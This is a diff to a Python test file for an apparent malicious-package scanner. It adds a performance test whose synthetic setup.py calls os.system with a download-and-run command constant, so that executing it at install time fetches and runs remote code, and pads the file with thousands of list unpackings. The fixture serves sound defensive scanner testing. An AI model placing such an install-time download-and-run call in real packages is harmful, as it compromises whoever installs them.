@@ -381,3 +381,17 @@ def test_a_file_built_to_exhaust_the_scanner_is_reported_as_obfuscated(
     assert any("signature scan stopped" in error for error in analysis.errors)
     techniques = analysis.indicators["obfuscated_code_rule"][0]["techniques"]
     assert "exhausts the signature scanner (its signatures are unknown)" in techniques
+
+
+@QUADRATIC_GUARD
+def test_thousands_of_lists_unpacked_into_install_requires_cost_no_seconds(
+    engine: Engine,
+) -> None:
+    """Each ``*R`` read again every list bound to ``R``: 7 s for a 30 KB setup.py."""
+    lists = "".join("R = ['" + "x" * 200 + "',\n" + "'a',\n" * 80 + "]\n" for _ in range(16))
+    unpacked = ", ".join(["*R"] * 5000)
+    setup_py = (
+        f"# x @ https://x.example.net\nimport os\nos.system('{DOWNLOAD_AND_RUN}')\n"
+        f"{lists}setup(install_requires=[{unpacked}])\n"
+    )
+    assert_analysed(engine.analyze(sdist(setup_py=setup_py)))
